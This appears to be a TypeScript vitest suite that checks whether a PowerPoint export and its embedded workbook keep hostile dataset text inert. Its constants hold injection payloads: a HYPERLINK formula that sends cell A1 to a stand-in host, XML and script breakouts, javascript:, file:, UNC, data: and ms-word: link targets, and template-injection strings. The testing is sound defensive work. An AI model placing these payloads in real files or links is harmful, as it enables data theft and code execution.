import fc from 'fast-check'
import { beforeAll, describe, expect, it } from 'vitest'
import { asBriefing } from '../../../src/exports/export-job'
import { makeDeck } from '../../../src/exports/formats/pptx/make-pptx'
import { webAddress } from '../../../src/exports/office/slide'
import { compilePanel } from '../../../src/charts/compile'
import type { ValidPanel } from '../../../src/charts/types/list'
import type { Dataset } from '../../../src/model/dataset'
import { chartsOf, malformed, partsOf, relationsOf, seriesOf, textOf, textsOf, type Parts } from './office-package'
import { dataset, panelNamed, slideJob, TOOLS } from './slide-jobs'

const FORMULA = '=HYPERLINK("http://example.org/?"&A1,"here")'
const MARKUP = '</a:t></a:r><a:t>&lt;&amp;]]> "quoted" \'single\' <script>alert(1)</script>'
const UNPRINTABLE = 'null\u0000 bell\u0007 half\ud83d end\uffff'
/** Addresses that a program must not be led to, and one of the web that tries to leave its attribute. */
const ADDRESSES = ['javascript:alert(1)', 'file:///C:/Windows/system32/calc.exe', '\\\\host\\share\\a.exe', 'ms-word:ofe|u|https://example.org/a.docx', 'data:text/html,<script>alert(1)</script>', 'https://example.org/" Target="file:///x', '../slides/slide1.xml', '']
const text = (one: string) => ({ zh: one, en: one })

/** The shipped data with names as somebody else's file may bring them. */
const poisoned: Dataset = {
  ...dataset,
  version: '2026.11.0"><x',
  sources: new Map([...dataset.sources].map(([id, source], at) => [id, { ...source, url: ADDRESSES[at % ADDRESSES.length] ?? '', title: text(MARKUP + UNPRINTABLE), body: text('{{7*7}}$&$1') }])),
  regions: new Map([...dataset.regions].map(([id, region]) => [id, id === 'CN-GD' ? { ...region, short: text('@SUM(A1)<b>') } : region])),
}

const trend = panelNamed('floating-population')
const panel = {
  ...trend,
  title: { zh: [`${MARKUP}${UNPRINTABLE}`], en: [MARKUP] },
  subtitle: text(`+1${MARKUP}`),
  notes: [text(`-2${MARKUP}${UNPRINTABLE}`)],
  grids: [{ zero: true, heading: text(MARKUP), lines: [{ indicator: 'floating_pop', label: text(FORMULA) }, { indicator: 'hukou_separated', label: text(MARKUP + UNPRINTABLE) }] }],
} as unknown as ValidPanel

describe('text from data on slides', () => {
  let parts: Parts = {}

  beforeAll(async () => {
    const jobs = [slideJob(panel, {}, poisoned), slideJob(panelNamed('province-population'), {}, poisoned)]
    parts = partsOf((await makeDeck(asBriefing(jobs), { title: `${MARKUP}${UNPRINTABLE}`, date: '<i>' }, TOOLS)).bytes)
  })

  it('never becomes markup: every part stays well-formed', () => {
    for (const name of Object.keys(parts).filter((part) => /\.(?:xml|rels)$/.test(part))) expect(malformed(textOf(parts, name)), name).toBe('')
    const slide = textOf(parts, 'ppt/slides/slide2.xml')
    expect(slide).not.toMatch(/<script|<x\b/)
    const title = compilePanel(panel, poisoned, { language: 'zh', scheme: 'light', width: 960 }).title
    expect(title).toContain('<script>')
    expect(textsOf(slide, 'a:t').some((shown) => shown.includes(MARKUP))).toBe(true)
  })

  it('links to addresses of the web alone, and only from slides', () => {
    const external = Object.keys(parts).flatMap((name) => (name.endsWith('.rels') ? [...textOf(parts, name).matchAll(/<Relationship [^>]*TargetMode="External"[^>]*>/g)].map(([tag]) => ({ name, type: /Type="([^"]*)"/.exec(tag)?.[1] ?? '', target: /Target="([^"]*)"/.exec(tag)?.[1] ?? '' })) : []))
    expect(external.length).toBeGreaterThan(0)
    for (const { name, type, target } of external) {
      expect(name).toMatch(/^ppt\/slides\/_rels\/slide\d+\.xml\.rels$/)
      expect(type).toMatch(/\/hyperlink$/)
      expect(target).toMatch(/^https?:\/\/[a-z.]+\//)
    }
    expect(relationsOf(parts).every(({ to }) => parts[to] !== undefined)).toBe(true)
  })

  it('no other address becomes a link', () => {
    fc.assert(fc.property(fc.oneof(fc.string(), fc.constantFrom(...ADDRESSES), fc.webUrl()), (address) => /^https?:\/\/[^\s"<>]+$/.test(webAddress(address) ?? 'https://a')), { numRuns: 60 })
  })

  it('a name that looks like a formula is text in the chart and in its workbook', () => {
    const [chart = ''] = chartsOf(parts)
    expect(seriesOf(chart)[0]?.name.startsWith(FORMULA)).toBe(true)
    const book = partsOf(parts['ppt/embeddings/Microsoft_Excel_Worksheet1.xlsx'] ?? new Uint8Array())
    for (const name of Object.keys(book)) expect(malformed(textOf(book, name)), name).toBe('')
    const sheet = textOf(book, 'xl/worksheets/sheet1.xml')
    expect(sheet).not.toContain('<f>')
    expect(sheet).toMatch(/<c r="B1" s="\d+" t="s">/)
    expect(textsOf(textOf(book, 'xl/sharedStrings.xml'), 't')[1]?.startsWith(FORMULA)).toBe(true)
    expect(textOf(book, 'xl/styles.xml')).toContain('numFmtId="49"')
  })
})
